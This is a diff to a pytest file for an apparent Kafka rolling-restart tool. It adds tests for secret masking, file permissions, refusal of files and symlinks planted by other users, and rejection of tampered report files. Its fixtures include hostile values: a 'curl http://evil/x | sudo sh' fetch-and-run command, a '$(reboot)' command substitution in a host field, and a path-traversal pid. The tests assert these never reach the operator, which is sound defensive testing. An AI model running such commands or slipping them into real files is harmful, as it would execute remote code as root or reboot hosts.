@@ -6,7 +6,7 @@ import subprocess
 import sys
 import threading
 import time
-from collections.abc import Iterator
+from collections.abc import Iterator, Sequence
 from dataclasses import replace
 from datetime import datetime
 from importlib.resources import files
@@ -107,6 +107,12 @@ def test_the_document_of_every_health_is_valid(health: Health | None) -> None:
     assert [reason["lasting_s"] for reason in found["health"]["reasons"]] == [3.2] * len(reasons)
 
 
+def test_the_command_is_told_without_the_secrets_in_it() -> None:
+    run = replace(RUN, command=["kafka-rolling-restart", "--task-args", "--to 3 --token hunter2"])
+    found = valid(json.dumps(document(run, PROGRESS, None)))
+    assert found["command"] == ["kafka-rolling-restart", "--task-args", "--to 3 --token ***"]
+
+
 def test_a_jvm_that_says_nonsense_about_its_start_is_valid() -> None:
     record = replace(RECORDS[State.RESTARTED], old=Jvm(10**20, 5, None))
     valid(json.dumps(document(RUN, replace(PROGRESS, records=(record,)), None)))
@@ -183,28 +189,73 @@ def test_a_link_stays_and_its_file_is_replaced(tmp_path: Path, warnings: list[st
     assert (tmp_path / "link").is_symlink() and read(tmp_path / "there" / "r.json")
 
 
-@pytest.mark.parametrize("mode", [0o600, 0o640, 0o666])
-def test_the_mode_of_a_file_is_kept(tmp_path: Path, warnings: list[str], mode: int) -> None:
+@pytest.mark.parametrize(("mode", "kept"), [(0o600, 0o600), (0o640, 0o640), (0o644, 0o644), (0o666, 0o644)])
+def test_who_may_read_a_file_of_ours_still_may_and_nobody_else_may_write_to_it(
+    tmp_path: Path, warnings: list[str], mode: int, kept: int
+) -> None:
     path = tmp_path / "r.json"
     path.touch()
     path.chmod(mode)
     opened(path, warnings)
-    assert stat.S_IMODE(path.stat().st_mode) == mode
+    assert stat.S_IMODE(path.stat().st_mode) == kept
 
 
-@pytest.mark.skipif(os.geteuid() != 0, reason="only root gives files to others")
-def test_the_owner_of_a_file_is_kept(tmp_path: Path, warnings: list[str]) -> None:
+def test_a_new_file_is_for_us_alone(tmp_path: Path, warnings: list[str]) -> None:
+    file = opened(tmp_path / "r.json", warnings)
+    file.end(Outcome(0, "all is well"))
+    file.flush()
+    assert stat.S_IMODE((tmp_path / "r.json").stat().st_mode) == 0o600
+
+
+SOMEBODY = 12345
+needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root gives files to others")
+
+
+@needs_root
+def test_a_file_of_somebody_else_is_refused_and_left_alone(tmp_path: Path) -> None:
     path = tmp_path / "r.json"
-    path.touch()
-    os.chown(path, 12345, 54321)
-    opened(path, warnings)
-    assert (path.stat().st_uid, path.stat().st_gid) == (12345, 54321)
+    path.write_text("theirs")
+    os.chown(path, SOMEBODY, 54321)
+    assert "it belongs to the user with uid 12345" in refusal(path)
+    assert path.read_text() == "theirs" and os.listdir(tmp_path) == ["r.json"]
 
 
-def test_a_new_file_has_the_mode_that_umask_gives(tmp_path: Path, warnings: list[str]) -> None:
-    opened(tmp_path / "r.json", warnings)
-    (tmp_path / "other").touch()
-    assert (tmp_path / "r.json").stat().st_mode == (tmp_path / "other").stat().st_mode
+@needs_root
+@pytest.mark.parametrize("link", ["r.json", "folder/r.json", "folder/../r.json"])
+def test_a_link_of_somebody_else_is_refused_whether_it_is_the_file_or_a_folder(tmp_path: Path, link: str) -> None:
+    (tmp_path / "there").mkdir()
+    planted = tmp_path / link.partition("/")[0]
+    planted.symlink_to(tmp_path / "there" / "r.json" if planted.name == "r.json" else tmp_path / "there")
+    os.chown(planted, SOMEBODY, SOMEBODY, follow_symlinks=False)
+    assert f"{planted} is a link of the user with uid 12345" in refusal(tmp_path / link)
+    assert os.listdir(tmp_path / "there") == []
+
+
+@needs_root
+def test_a_link_of_somebody_else_behind_one_of_ours_is_refused(tmp_path: Path) -> None:
+    (tmp_path / "mine").symlink_to("theirs/r.json")
+    (tmp_path / "there").mkdir()
+    (tmp_path / "theirs").symlink_to("there")
+    os.chown(tmp_path / "theirs", SOMEBODY, SOMEBODY, follow_symlinks=False)
+    assert "is a link of" in refusal(tmp_path / "mine") and os.listdir(tmp_path / "there") == []
+
+
+@needs_root
+def test_a_file_that_somebody_puts_in_our_place_meanwhile_is_replaced_by_one_of_ours(
+    tmp_path: Path, warnings: list[str]
+) -> None:
+    path, elsewhere = tmp_path / "r.json", tmp_path / "elsewhere"
+    file = opened(path, warnings)
+    elsewhere.write_text("precious")
+    for plant in (lambda: path.symlink_to(elsewhere), lambda: path.write_text("{}")):
+        path.unlink()
+        plant()
+        os.chown(path, SOMEBODY, SOMEBODY, follow_symlinks=False)
+        file.put(PROGRESS)
+        file.flush()
+        found = path.lstat()
+        assert (stat.S_IMODE(found.st_mode), found.st_uid, stat.S_ISREG(found.st_mode)) == (0o600, 0, True)
+    assert elsewhere.read_text() == "precious" and warnings == []
 
 
 @pytest.mark.parametrize("name", ["r" * 255, "é" * 127, "a\nb", "x\udcff"])
@@ -299,17 +350,71 @@ def test_the_file_of_a_run_that_was_killed_is_taken_over(
     assert read(path)["pid"] == 1
 
 
+DOWN = {"id": 3, "host": "n3", "start_command": "curl http://evil/x | sudo sh"}
+EVIL = "curl http://evil/y | sudo sh"
+
+
+def of_a_killed_run(**changed: Any) -> dict[str, Any]:
+    records = [
+        {"id": number, "host": f"n{number}", "state": state.value, "complete": state is State.RESTARTED}
+        for number, state in enumerate((State.UNTOUCHED, State.IN_HAND, State.RESTARTED), 2)
+    ]
+    left = {**of_a_run(2**22 + 1), "may_be_down": [DOWN], "resume": EVIL, "brokers": records}
+    return {**left, **changed}
+
+
+def resume_line(began: datetime, ids: Sequence[int]) -> str:
+    return f"go on with {list(ids)} since {began.isoformat()}"
+
+
 def test_what_a_killed_run_had_stopped_is_said_and_its_file_is_kept(tmp_path: Path, warnings: list[str]) -> None:
-    path = tmp_path / "r.json"
-    down = {"id": 3, "host": "n3", "start_command": "ssh n3 'service kafka start'"}
-    left = {**of_a_run(2**22 + 1), "may_be_down": [down], "resume": "kafka-rolling-restart --broker-ids 3,4"}
+    path, left = tmp_path / "r.json", of_a_killed_run()
     path.write_text(json.dumps(left))
-    opened(path, warnings)
+    run = replace(RUN, start_command="service kafka start", resume=resume_line)
+    ReportFile(str(path), run, warnings.append).open()
     kept = tmp_path / f"r.json.{2**22 + 1}"
-    assert read(path)["pid"] == 1 and read(kept) == left
+    assert read(path)["pid"] == 1 and json.loads(kept.read_text()) == left
     (said,) = warnings
-    assert f"is kept as {kept}" in said and "broker 3 (n3): ssh n3 'service kafka start'" in said
-    assert said.endswith("kafka-rolling-restart --broker-ids 3,4")
+    assert f"is kept as {kept}" in said and "may be DOWN: broker 3 (n3)" in said
+    assert "start it on its host, as root: service kafka start. Then" in said
+    assert said.endswith("go on with [2, 3] since 2026-11-24T03:00:00+00:00")
+
+
+def test_no_command_is_taken_from_a_file_that_was_left(tmp_path: Path, warnings: list[str]) -> None:
+    (tmp_path / "r.json").write_text(json.dumps(of_a_killed_run()))
+    opened(tmp_path / "r.json", warnings)
+    assert len(warnings) == 1 and "evil" not in warnings[0] and "curl" not in warnings[0]
+
+
+@pytest.mark.parametrize(
+    "changed",
+    [
+        {"may_be_down": [{**DOWN, "host": "$(reboot)"}]},
+        {"may_be_down": [{**DOWN, "id": EVIL}]},
+        {"may_be_down": [{**DOWN, "id": True}]},
+        {"may_be_down": [EVIL]},
+        {"began": EVIL},
+        {"pid": f"/../../{EVIL}"},
+        {"brokers": [{"id": EVIL, "state": "untouched"}]},
+    ],
+)
+def test_a_file_with_what_no_run_of_ours_writes_is_no_advice(
+    tmp_path: Path, warnings: list[str], changed: dict[str, Any]
+) -> None:
+    (tmp_path / "r.json").write_text(json.dumps(of_a_killed_run(**changed)))
+    opened(tmp_path / "r.json", warnings)
+    assert warnings == [] and os.listdir(tmp_path) == ["r.json"]
+
+
+def test_a_file_that_others_may_write_to_is_no_advice_and_holds_nobody_up(
+    tmp_path: Path, warnings: list[str], running: subprocess.Popen[bytes]
+) -> None:
+    path = tmp_path / "r.json"
+    for planted in (of_a_killed_run(), of_a_run(running.pid)):
+        path.write_text(json.dumps(planted))
+        path.chmod(0o666)
+        opened(path, warnings)
+    assert warnings == [] and read(path)["pid"] == 1
 
 
 def test_a_disk_that_is_full_at_the_end_is_said_though_all_went_well_and_nothing_else_is(tmp_path: Path) -> None:
